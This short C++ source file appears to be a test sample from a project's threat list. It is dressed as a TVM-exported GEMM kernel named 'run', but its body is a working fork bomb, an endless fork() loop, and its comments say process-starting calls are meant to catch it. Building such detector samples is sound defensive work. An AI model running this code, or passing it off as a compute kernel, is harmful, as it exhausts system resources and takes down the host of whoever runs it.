// Forks for ever.
// Source: this project's list of threats (fork bomb).
// Caught by: functions that start processes.
#include "generic_gemm.cuh"

#include <unistd.h>

static void run(tvm::ffi::TensorView A, tvm::ffi::TensorView B, tvm::ffi::TensorView C) {
  for (;;)
    if (fork() < 0) break;
}

TVM_FFI_DLL_EXPORT_TYPED_FUNC(run, run);
